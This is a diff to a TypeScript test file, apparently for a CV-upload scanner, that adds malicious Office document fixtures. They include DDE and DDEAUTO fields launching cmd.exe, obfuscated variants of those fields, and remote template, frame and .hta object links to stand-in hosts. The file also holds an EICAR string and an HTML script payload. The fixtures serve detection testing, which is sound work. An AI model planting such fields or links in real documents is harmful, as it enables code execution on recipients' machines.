@@ -35,6 +35,27 @@ const packageOf = (mainType: string, part = "word/document.xml") =>
     { name: part, content: "x" },
   ]);
 
+type Row = readonly [string, string, Buffer | string, string];
+
+/** Documents with one relationship each: its type, its target, and the verdict. */
+function related(...rows: readonly (readonly [string, string, string])[]): Row[] {
+  const base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+  return rows.map(([type, target, verdict]) => {
+    const content = `<Relationships><Relationship Id="rId1" Type="${base}/${type}" Target="${target}"/></Relationships>`;
+    const file = docx({ name: "word/_rels/document.xml.rels", content });
+    return [`a DOCX with ${type} of ${target}`, "cv.docx", file, verdict] as const;
+  });
+}
+
+/** Documents with one field each, in a header. */
+function withFields(...rows: readonly (readonly [string, string])[]): Row[] {
+  return rows.map(([field, verdict]) => {
+    const content = `<w:hdr><w:p><w:r>${field}</w:r></w:p></w:hdr>`;
+    const file = docx({ name: "word/header1.xml", content });
+    return [`a DOCX with ${field}`, "cv.docx", file, verdict] as const;
+  });
+}
+
 const PNG = Buffer.from("89504e470d0a1a0a0000000d", "hex");
 const JPEG = Buffer.from("ffd8ffe000104a464946", "hex");
 const EXE = Buffer.from("MZ\x90\0This program cannot be run in DOS mode", "latin1");
@@ -43,7 +64,7 @@ const HTML = "<!DOCTYPE html><html><script>alert(1)</script></html>";
 const EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
 const JAR = zipFile([{ name: "META-INF/MANIFEST.MF" }, { name: "Main.class" }]);
 
-const matrix: readonly [string, string, Buffer | string, string][] = [
+const matrix: readonly Row[] = [
   ["a PDF", "cv.pdf", pdf(), "ok"],
   ["a PDF in capitals", "CV.PDF", pdf(), "ok"],
   ["a PDF of version 2", "cv.pdf", pdf("", "2.0"), "ok"],
@@ -135,6 +156,48 @@ const matrix: readonly [string, string, Buffer | string, string][] = [
     "cv.docx",
     docx({ name: "word/embeddings/o.bin" }),
     "ok embedded-files",
+  ],
+  ...related(
+    ["oleObject", "../o.bin", "ok embedded-files"],
+    ["package", "../o.bin", "ok embedded-files"],
+    ["control", "../o.bin", "ok embedded-files"],
+    ["aFChunk", "a.mht", "ok embedded-files"],
+    ["oleObj&#101;ct", "../o.bin", "ok embedded-files"],
+    ["styles", "styles.xml", "ok"],
+    ["hyperlink", 'https://ada.example?a>b" TargetMode="External', "ok"],
+    ["attachedTemplate", 'https://x.example/a.dotm" TargetMode="External', "ok opens-files"],
+    ["frame", 'https://x.example/a" TargetMode = "External', "ok opens-files"],
+    ["oleObject", 'https://x.example/a.hta" TargetMode="External', "ok embedded-files opens-files"],
+  ),
+  ...withFields(
+    ["<w:instrText>PAGE</w:instrText>", "ok"],
+    ['<w:instrText>HYPERLINK "https://x.example/hidden/dde"</w:instrText>', "ok"],
+    [
+      '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/k"</w:instrText>',
+      "ok launches-programs",
+    ],
+    [
+      "<w:instrText>D</w:instrText></w:r><w:r><w:instrText>D&#69; cmd</w:instrText>",
+      "ok launches-programs",
+    ],
+    ['<w:fldSimple w:instr="DDE cmd a"/>', "ok launches-programs"],
+    ["<w:instrText>DD<!-- -->E cmd</w:instrText>", "ok unchecked"],
+  ),
+  [
+    "a DOCX with a field in a part of another name",
+    "cv.docx",
+    zipFile([
+      {
+        name: "[Content_Types].xml",
+        content: TYPES(WORD).replace(
+          "</Types>",
+          '<Override PartName="/word/header.bin" ContentType="header+xml"/></Types>',
+        ),
+      },
+      { name: "word/document.xml", content: "x" },
+      { name: "word/header.bin", content: "<instrText>DDE cmd a</instrText>" },
+    ]),
+    "ok launches-programs",
   ],
   ["a DOCX with macros", "cv.docx", docx({ name: "word/vbaProject.bin" }), "has-macros"],
   [
